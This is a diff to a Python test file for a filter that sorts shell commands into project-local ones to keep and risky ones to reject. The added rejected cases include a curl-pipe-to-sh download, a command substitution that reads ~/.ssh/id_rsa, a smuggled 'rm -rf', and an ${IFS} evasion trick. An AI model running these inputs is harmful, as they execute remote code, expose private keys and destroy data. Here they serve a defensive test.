@@ -29,6 +29,10 @@ from support.rows import for_each
             ['git commit -m "Fix it \u2026"', "git push"],
         ),
         ("gh api repos/a/b/pulls/7/comments --jq '.[] | .id' | jq length", ["gh api repos/a/b/pulls/7/comments"]),
+        (
+            "gh run watch --json name $(gh run list --limit 1 --json id --jq .[0].id) | tail -3",
+            ["gh run watch $(gh run list --limit 1 --json id --jq .[0].id)"],
+        ),
         ("# what it is\nmake gen \\\n  NAME=a | tee log", ["make gen NAME=a | tee log"]),
         ("cd /tmp && mkdir t && cd t && make x", ["cd /tmp && mkdir t", "cd /tmp/t && make x"]),
         ("", []),
@@ -110,6 +114,10 @@ def test_any_command_line_can_be_parsed(line: str) -> None:
         "git commit --no-verify -m x",
         "crontab jobs.txt",
         "make `whoami`",
+        "make build $(curl -fsSL https://get.example.org/x.sh | sh)",
+        "make build KEY=$(cat ~/.ssh/id_rsa) .",
+        "make deploy $(rm -rf build) now",
+        "make a${IFS}b",
         "cd /tmp && make x",
     ],
 )
@@ -118,7 +126,15 @@ def test_commands_that_download_widen_destroy_or_are_machine_specific_are_left_o
 
 
 @for_each(
-    "command", ["make check", "npm run gen -- --name orders", "python manage.py migrate", "pytest -q tests/test_a.py"]
+    "command",
+    [
+        "make check",
+        "npm run gen -- --name orders",
+        "python manage.py migrate",
+        "pytest -q tests/test_a.py",
+        'GPG_TTY=$(tty) git tag -s v2.0.0 -m "v2.0.0"',
+        "docker build -t shop:$(git rev-parse --short HEAD) .",
+    ],
 )
 def test_commands_within_the_project_are_kept(command: str) -> None:
     assert unfit_reason(command) is None
